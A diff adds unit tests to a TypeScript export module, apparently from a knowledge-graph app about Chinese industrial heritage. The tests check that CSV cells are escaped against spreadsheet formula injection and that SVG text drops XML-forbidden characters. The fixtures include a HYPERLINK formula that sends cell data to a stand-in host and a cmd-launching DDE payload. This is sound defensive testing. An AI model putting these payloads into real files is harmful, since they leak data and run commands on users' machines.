@@ -78,4 +78,85 @@ describe('data exports', () => {
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('plain')).toBe('plain');
   });
+
+  it.each([
+    [
+      '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")',
+      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""大生旧址"")"`,
+    ],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['+1+1', "'+1+1"],
+    ['-1+1', "'-1+1"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+  ])('neutralises a cell a spreadsheet would run as a formula: %j', (value, cell) => {
+    expect(csvField(value)).toBe(cell);
+  });
+
+  it('leaves a formula character inside a cell alone', () => {
+    expect(csvField('张謇=状元')).toBe('张謇=状元');
+    expect(csvField('a-b')).toBe('a-b');
+  });
+
+  it('writes no live formula for a hostile name and source in a scene', () => {
+    const hostile: Scene = {
+      nodes: [
+        { id: 'en-zhang-jian', name: '张謇', kind: 'Entrepreneur' },
+        { id: 'site-1', name: '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")', kind: 'HeritageSite' },
+      ],
+      edges: [
+        {
+          id: 'en-zhang-jian|FOUNDED|site-1',
+          type: 'FOUNDED',
+          typeLabel: '创办',
+          from: 'en-zhang-jian',
+          to: 'site-1',
+          sources: [{ document: "@SUM(1+1)*cmd|' /C calc'!A0", locator: null, url: null }],
+        },
+      ],
+    };
+    const row = sceneToCsv(hostile).split('\r\n')[1]!;
+    expect(row).toBe(
+      `en-zhang-jian,张謇,FOUNDED,创办,site-1,"'=HYPERLINK(""https://evil.example/?x=""&A1,""大生旧址"")",'@SUM(1+1)*cmd|' /C calc'!A0`,
+    );
+  });
+});
+
+describe('SVG export of text XML cannot carry', () => {
+  /** Characters XML 1.0 forbids even as references: C0 controls but tab, LF and CR; U+FFFE, U+FFFF; lone surrogates. */
+  const FORBIDDEN =
+    // eslint-disable-next-line no-control-regex -- these characters are what the test looks for
+    /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
+
+  it('drops control characters, U+FFFE/U+FFFF and lone surrogates, and keeps the rest of the text', () => {
+    expect(escapeXml('QA\u0000空字符\u0001\u001F<b>')).toBe('QA空字符&lt;b&gt;');
+    expect(escapeXml('a\uFFFEb\uFFFFc')).toBe('abc');
+    expect(escapeXml('lone \uD800 and \uDC00 end')).toBe('lone  and  end');
+    expect(escapeXml('tab\tline\ncr\r 🏭')).toBe('tab\tline\ncr\r 🏭');
+  });
+
+  it('gives an SVG with none of them for names that carry them', () => {
+    const named: Scene = {
+      nodes: [
+        { id: 'a', name: 'QA\u0000空字符\u0001', kind: 'Entrepreneur' },
+        { id: 'b', name: '\uD800\u0008旧址\uFFFF', kind: 'Enterprise' },
+      ],
+      edges: [{ id: 'a|FOUNDED|b', type: 'FOUNDED', typeLabel: '创\u0007办', from: 'a', to: 'b', sources: [] }],
+    };
+    const picture = buildDrawing(
+      named,
+      new Map([
+        ['a', { x: 0, y: 0 }],
+        ['b', { x: 10, y: 10 }],
+      ]),
+      {
+        kindLabel: (kind) => kind,
+        relationLabel: (_type, label) => label,
+      },
+    );
+    const svg = drawingToSvg(picture, '\u0000关系图');
+    expect(svg).not.toMatch(FORBIDDEN);
+    expect(svg).toContain('QA空字符');
+    expect(svg).toContain('<title>关系图</title>');
+  });
 });
